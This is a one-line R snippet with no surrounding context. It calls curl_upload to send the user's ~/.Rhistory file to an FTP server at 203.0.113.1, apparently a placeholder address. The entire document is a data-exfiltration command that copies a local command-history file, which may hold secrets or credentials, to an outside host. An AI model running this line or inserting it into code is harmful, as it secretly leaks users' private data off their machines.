curl::curl_upload("~/.Rhistory", "ftp://203.0.113.1/h")
